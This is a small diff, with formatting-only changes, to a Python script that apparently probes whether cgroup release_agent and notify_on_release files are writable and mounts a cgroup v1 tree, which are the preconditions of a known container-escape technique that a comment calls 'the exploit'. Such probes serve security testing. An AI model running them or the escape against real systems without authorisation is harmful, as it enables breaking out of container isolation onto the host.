@@ -23,9 +23,9 @@ for path in glob.glob("/sys/fs/cgroup/*/notify_on_release")[:3]:
         results[path] = exc.strerror
 # Without a writable hierarchy the exploit mounts its own cgroup v1 tree.
 import os
+
 os.makedirs("/tmp/cg", exist_ok=True)
 results["mount cgroup"] = syscall("mount", b"cgroup", b"/tmp/cg", b"cgroup", 0, b"memory")[1] or "ok"
 wrote = [p for p, r in results.items() if r == "ok" and "release_agent" in p]
 print(results)
-privileged({"release_agent written": "ok" if wrote else "no",
-            "mount cgroup": results["mount cgroup"]})
+privileged({"release_agent written": "ok" if wrote else "no", "mount cgroup": results["mount cgroup"]})
